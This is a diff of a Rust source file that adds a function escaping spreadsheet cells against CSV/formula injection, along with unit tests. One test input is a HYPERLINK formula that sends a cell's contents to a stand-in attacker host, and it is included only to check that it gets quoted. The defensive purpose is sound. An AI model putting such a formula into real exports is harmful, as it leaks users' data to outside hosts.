@@ -196,3 +196,50 @@ mod visible_tests {
         }
     }
 }
+
+/// A text cell as a spreadsheet must see it: one starting with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return is prefixed with `'` so it is never
+/// read as a formula (OWASP's rule for CSV injection), and control
+/// characters other than newlines and tabs are written as `\u{..}` escapes.
+pub fn spreadsheet_cell(text: &str) -> Cow<'_, str> {
+    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let control = |c: char| c.is_control() && c != '\n' && c != '\t';
+    if !formula && !text.chars().any(control) {
+        return Cow::Borrowed(text);
+    }
+    let mut cell = String::with_capacity(text.len() + 8);
+    if formula {
+        cell.push('\'');
+    }
+    for c in text.chars() {
+        if control(c) {
+            cell.push_str(&c.escape_unicode().to_string());
+        } else {
+            cell.push(c);
+        }
+    }
+    Cow::Owned(cell)
+}
+
+#[cfg(test)]
+mod spreadsheet_tests {
+    use super::spreadsheet_cell;
+
+    #[test]
+    fn formulas_are_quoted_and_control_characters_escaped() {
+        assert_eq!(
+            spreadsheet_cell(r#"=HYPERLINK("http://evil.example/?d="&A1,"x")"#),
+            r#"'=HYPERLINK("http://evil.example/?d="&A1,"x")"#
+        );
+        for lead in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(spreadsheet_cell(lead).starts_with('\''), "{lead:?}");
+        }
+        assert_eq!(
+            spreadsheet_cell("a\0b\x07c\x1b[31m"),
+            "a\\u{0}b\\u{7}c\\u{1b}[31m"
+        );
+        assert_eq!(spreadsheet_cell("line one\nline two"), "line one\nline two");
+        assert_eq!(spreadsheet_cell("plain answer"), "plain answer");
+        assert_eq!(spreadsheet_cell("\rx"), "'\\u{d}x");
+    }
+}
